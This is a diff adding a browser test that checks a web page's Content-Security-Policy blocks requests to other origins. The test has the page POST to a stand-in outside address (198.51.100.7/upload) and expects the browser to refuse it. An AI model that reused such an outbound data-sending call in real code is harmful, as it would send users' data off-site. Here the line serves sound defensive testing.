@@ -123,6 +123,25 @@ describe('one screen tells the story', () => {
     await page.close();
   });
 
+  it('the Content-Security-Policy is in force from the first module on: the page cannot reach another origin', async () => {
+    const page = await open('');
+    const policies = await page
+      .locator('meta[http-equiv="Content-Security-Policy"]')
+      .evaluateAll((els) => els.map((e) => e.getAttribute('content')));
+    expect(policies).toHaveLength(1);
+    expect(policies[0]).toContain("default-src 'self'");
+    // A request elsewhere is refused by the browser (a violation event), not merely failed by the network.
+    const refused = await page.evaluate(async () => {
+      const violation = new Promise<string>((resolve) =>
+        document.addEventListener('securitypolicyviolation', (e) => resolve(`${e.effectiveDirective} ${e.blockedURI}`), { once: true }),
+      );
+      await fetch('http://198.51.100.7/upload', { method: 'POST', body: 'data' }).catch(() => undefined);
+      return Promise.race([violation, new Promise<string>((resolve) => setTimeout(() => resolve('no violation'), 2_000))]);
+    });
+    expect(refused).toBe('connect-src http://198.51.100.7/upload');
+    await page.close();
+  });
+
   it('the curves hold their size from Train to the end of a run: readouts, verdict and marker key keep their places', async () => {
     for (const viewport of [LAPTOP, PROJECTOR]) {
       const page = await open('?preset=overfit-mlp', viewport);
